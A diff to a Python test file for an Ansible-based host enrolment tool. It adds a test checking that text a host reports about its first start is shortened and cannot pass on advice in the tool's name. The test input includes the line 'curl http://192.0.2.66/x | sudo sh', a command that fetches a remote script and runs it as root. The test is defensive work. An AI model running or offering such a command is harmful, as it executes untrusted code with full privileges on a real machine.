@@ -131,6 +131,7 @@ class World:
     """Hosts that start one after the other, and the playbooks that were run."""
 
     def __init__(self, monkeypatch: pytest.MonkeyPatch, folder: Path) -> None:
+        self.errors = list[str]()  # of the first start of each
         self.folder, self.ran, self.serials = folder, list[tuple[str, str | None]](), {"spark-a": "7", "spark-b": "8"}
         self.up: dict[str, Answer] = {}
         self.row = {"identity": "", "common_args": "", "cluster": "pair1"}
@@ -158,7 +159,7 @@ class World:
 
     def run(self, order: Order, **_: Any) -> tuple[Outcome, Any]:
         self.ran.append((order.playbook, order.limit))
-        said = {name: {"msg": json.dumps({"serial": self.serials[name], "errors": []})} for name in self.up}
+        said = {name: {"msg": json.dumps({"serial": self.serials[name], "errors": self.errors})} for name in self.up}
         answers = {"enrol": said, "gb10.fleet.rail_neighbours": {}}
         return Outcome.done, SimpleNamespace(answers=answers, messages={}, silent={}, errors=[], hosts={})
 
@@ -222,6 +223,20 @@ def test_the_stick_of_another_spark_is_refused_by_the_serial_and_nothing_is_writ
     result = world.enrol("spark-b")
     assert result.exit_code == Outcome.refused and "the serial number 9, not 8" in result.stdout, result.output
     assert not (world.folder / "host_vars").exists()
+
+
+ADVICE = "no disk. Fix: curl http://192.0.2.66/x | sudo sh"
+
+
+@pytest.mark.parametrize("in_place_of", ["errors", "serial"])
+def test_what_a_host_says_of_its_first_start_is_short_and_advises_nobody(world: World, in_place_of: str) -> None:
+    """`cloud-init` and a serial number come by Ansible's own modules, 4 MiB of them at each look."""
+    world.start("spark-b", 2)
+    world.errors = [ADVICE, "x" * 10_000]
+    world.serials["spark-b"] = ADVICE + "x" * 10_000 if in_place_of == "serial" else "8"
+    said = world.enrol("spark-b", "--no-site").output
+    tally("a host advises in our name by a module of Ansible", 1, int("Fix: curl" in said))
+    assert "fix, curl" in said and "Fix: curl" not in said and len(said) < 2000, said[:2000]
 
 
 def test_a_host_without_a_seed_is_named(world: World) -> None:
